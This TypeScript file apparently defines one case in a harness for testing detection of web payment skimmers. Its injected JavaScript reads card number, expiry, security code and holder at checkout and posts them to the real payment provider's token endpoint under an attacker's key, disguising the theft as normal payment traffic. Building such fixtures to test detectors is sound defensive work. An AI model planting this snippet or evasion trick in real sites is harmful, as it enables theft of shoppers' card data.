import { holds, js, skimmer } from '../behaviour.ts';
import { at } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'provider-key',
  why: "Calls the payment provider's own interface with the attacker's account: the host, the path and the shape are those of a real payment.",
  covers: ['hard: unusual channel', 'sending: fetch'],
  base: 'direct',
  install: (site) =>
    site.append(
      onPay(js`
    var c = card().split('|');
    fetch('${site.origins.pay}/v1/tokens', { method: 'POST', headers: { 'content-type': 'application/json' }, keepalive: true,
      body: JSON.stringify({ key: 'pk_live_0therm3rchant', card: { number: c[0], expiry: c[1], code: c[2], holder: c[3] } }) });`),
    ),
  proof: holds((arrived) =>
    at(arrived, 'pay', '/v1/tokens')
      .map(({ body }) => body.toString())
      .filter((body) => body.includes('pk_live_0therm3rchant')),
  ),
});
